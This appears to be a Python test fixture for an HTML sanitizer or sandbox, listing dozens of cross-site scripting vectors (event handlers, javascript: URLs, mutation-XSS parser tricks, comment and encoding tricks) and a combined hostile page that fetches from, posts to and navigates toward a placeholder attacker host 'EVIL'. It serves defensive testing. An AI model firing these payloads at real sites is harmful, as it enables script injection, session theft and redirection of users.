"""Cross-site scripting by documents, also by text that becomes a tag when it is parsed a second time."""

from __future__ import annotations

#: `pwn()` is what may not run, and EVIL is the address of a server that may not be reached.
VECTORS = [
    "<script>pwn()</script>",
    "<SCRIPT SRC=EVIL/script></SCRIPT>",
    "<scr\0ipt>pwn()</scr\0ipt>",
    "<script/x>pwn()</script//x>",
    "<<script>script>pwn()<</script>/script>",
    *(
        f"<{tag} on{event}=pwn() autofocus tabindex=0 contenteditable>x</{tag}>"
        for tag, event in (
            ("p", "focus"),
            ("details open", "toggle"),
            ("marquee", "start"),
            ("div", "animationstart"),
            ("body", "load"),
            ("a", "pointerenter"),
            ("input", "focus"),
            ("select", "focus"),
            ("form", "submit"),
        )
    ),
    "<img src=EVIL/image onerror=pwn()>",
    "<img src=x onerror='pwn()'//alt=\"`><script>pwn()</script>\">",
    "<img alt='<img src=EVIL/alt onerror=pwn()>'>",
    "<img srcset='EVIL/srcset 1x' sizes=1px>",
    "<p title='</p><script>pwn()</script>'>x",
    '<p title="`><img src=EVIL/title onerror=pwn()>">x',
    *(
        f"<{tag} {name}='javascript:pwn()'>x</{tag}>"
        for tag, name in (
            ("a", "href"),
            ("area", "href"),
            ("form", "action"),
            ("button", "formaction"),
            ("iframe", "src"),
            ("object", "data"),
            ("embed", "src"),
            ("img", "src"),
            ("input", "src"),
            ("link", "href"),
            ("base", "href"),
            ("body", "background"),
            ("table", "background"),
            ("q", "cite"),
            ("blockquote", "cite"),
            ("del", "cite"),
            ("video", "poster"),
            ("track", "src"),
            ("a", "xlink:href"),
            ("svg", "xml:base"),
            ("html", "manifest"),
            ("td", "abbr"),
            ("time", "datetime"),
            ("p", "lang"),
            ("p", "title"),
            ("col", "span"),
        )
    ),
    "<a href='java\tscript:pwn()' id=go>x</a>",
    "<a href='&#106;avascript:pwn()'>x</a>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=EVIL/frame></iframe>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "<meta http-equiv=Content-Type content='text/html;charset=utf-7'>+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "\ufeff\x1b$B<script>pwn()</script>\x1b(B",
    "<base href=EVIL/base/><img src=x>",
    "<link rel=stylesheet href=EVIL/style><link rel=preload as=image href=EVIL/preload>",
    "<style>@import url(EVIL/import); * { background: url(EVIL/background) }</style>",
    "<p style='background: url(EVIL/inline)'>x",
    "<object data=EVIL/object></object><embed src=EVIL/embed><applet code=EVIL/applet>",
    "<video src=EVIL/video autoplay><source src=EVIL/source onerror=pwn()></video>",
    "<audio src=EVIL/audio autoplay></audio>",
    "<form action=EVIL/form><input type=image src=EVIL/input><button>x</button></form>",
    "<svg onload=pwn()><script>pwn()</script><image href=EVIL/svg /></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s><set attributeName=href to=javascript:pwn() />",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwn()></svg>#x'/>",
    "<svg><foreignObject><img src=EVIL/foreign onerror=pwn()></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=EVIL/mxss1 onerror=pwn()>">',
    "<svg><style><img src=EVIL/mxss2 onerror=pwn()></style></svg>",
    "<svg><title><style><img src=EVIL/mxss3 onerror=pwn()></style></title></svg>",
    "<svg><desc><![CDATA[</desc><script>pwn()</script>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=EVIL/mxss4 onerror=pwn()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=EVIL/mxss5 onerror=pwn()>",
    "<math><annotation-xml encoding='text/html'><style><img src=EVIL/mxss6 onerror=pwn()></style></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn()>x</maction></math>",
    "<noscript><p title='</noscript><img src=EVIL/mxss7 onerror=pwn()>'>",
    "<noembed><img title='</noembed><img src=EVIL/noembed onerror=pwn()>'></noembed>",
    "<xmp><p title='</xmp><img src=EVIL/xmp onerror=pwn()>'></xmp>",
    "<textarea><p title='</textarea><img src=EVIL/textarea onerror=pwn()>'></textarea>",
    "<title><p title='</title><img src=EVIL/titled onerror=pwn()>'></title>",
    "<template><script>pwn()</script><img src=EVIL/template onerror=pwn()></template>",
    "<template shadowrootmode=open><img src=EVIL/shadow onerror=pwn()></template>",
    "<select><option><style></option></select><img src=EVIL/select onerror=pwn()></style></select>",
    "<table><a href='javascript:pwn()'><td><svg><b><p><style></b></svg><img src=EVIL/broken onerror=pwn()>",
    "<b><p></b></i><table><b></p><tr></b><td></a></table><script>pwn()</script>",
    "<!--><img src=EVIL/comment1 onerror=pwn()>-->",
    "<!---!><img src=EVIL/comment2 onerror=pwn()>-->",
    "<!--<!-- --!><img src=EVIL/comment3 onerror=pwn()>-->",
    "<![CDATA[<!-- ]]><img src=EVIL/cdata onerror=pwn()>-->",
    "<?xml version='1.0'?><?xml-stylesheet href='EVIL/xslt'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'EVIL/entity'>]>&y;",
    "<!--[if gte IE 4]><script>pwn()</script><![endif]-->",
    "<p\0 onclick=pwn()\0>x</p><\0img src=EVIL/nul onerror=pwn()>",
    "<p/onclick=pwn()/title=x>y</p><p\x0conclick=pwn()>z",
    "&lt;script&gt;pwn()&lt;/script&gt;&#60;img src=EVIL/entity onerror=pwn()&#62;",
    "<plaintext><script>pwn()</script>",
    "<frameset onload=pwn()><frame src=EVIL/frameset></frameset>",
    "<dialog open onclose=pwn()><a href=EVIL/dialog autofocus>x</a></dialog>",
    "<portal src=EVIL/portal></portal><fencedframe src=EVIL/fenced></fencedframe>",
    "<isindex action=javascript:pwn() type=image src=EVIL/isindex>",
    "<keygen autofocus onfocus=pwn()><bgsound src=EVIL/bgsound><layer src=EVIL/layer></layer>",
]

#: A document that tries everything at once, also against our own pages. What a person can use has a tabindex.
HOSTILE = """
<script>fetch('EVIL/fetch'); top.pwned = 1; top.location = 'EVIL/top'; document.title = 'owned'</script>
<base href="EVIL/base/" target="_top">
<meta http-equiv="refresh" content="0;url=EVIL/refresh">
<meta http-equiv="refresh" content="0;url=/leave">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<link rel="stylesheet" href="EVIL/style"><link rel="stylesheet" href="/static/style.css">
<style>@import url("EVIL/import"); body { position: fixed; inset: -1000px; z-index: 9999 }</style>
<div style="position: fixed; inset: -1000px; background: url(EVIL/overlay)"></div>
<iframe src="EVIL/frame"></iframe><iframe src="/task"></iframe>
<iframe srcdoc="<script>top.pwned=1</script>"></iframe>
<iframe src="javascript:top.pwned=1"></iframe>
<iframe name="x" src="data:text/html,<script>top.pwned=1</script>"></iframe>
<object data="/task"></object><embed src="EVIL/embed"><img src="EVIL/image" onerror="top.pwned=1">
<svg><script>top.pwned=1</script>
<image href="EVIL/svg"/><animate onbegin="top.pwned=1" attributeName="x" dur="1s"/></svg>
<math><maction actiontype="statusline" xlink:href="javascript:top.pwned=1">x</maction></math>
<img name="addEventListener" alt=""><form name="documentElement"><input name="scrollWidth"></form>
<form name="querySelector2"></form><img name="defaultView" alt=""><img name="activeElement" alt="">
<a tabindex="0" href="EVIL/link">here</a>
<a tabindex="0" target="_top" href="EVIL/out">out</a>
<a tabindex="0" target="_blank" href="EVIL/new">new</a>
<a tabindex="0" target="_parent" href="/leave">leave</a>
<a tabindex="0" href="javascript:top.pwned=1">script</a>
<a tabindex="0" download href="EVIL/download">file</a>
<a tabindex="0" href="/task" target="_self">task</a>
<a tabindex="0" href="EVIL/ping" ping="EVIL/pinged">ping</a>
<form action="EVIL/form" method="post"><button tabindex="0">send</button></form>
<form action="/task" method="post" target="_top">
<input type="hidden" name="answer" value="left"><button tabindex="0">answer</button></form>
<form action="/leave" method="post"><button tabindex="0" formtarget="_top">leave</button></form>
<details ontoggle="top.pwned=1"><summary tabindex="0">more</summary>x</details>
<p tabindex="0" autofocus contenteditable onfocus="top.pwned=1" onkeydown="top.pwned=1" accesskey="a">text</p>
<video controls tabindex="0" src="EVIL/video" onerror="top.pwned=1"></video>
"""
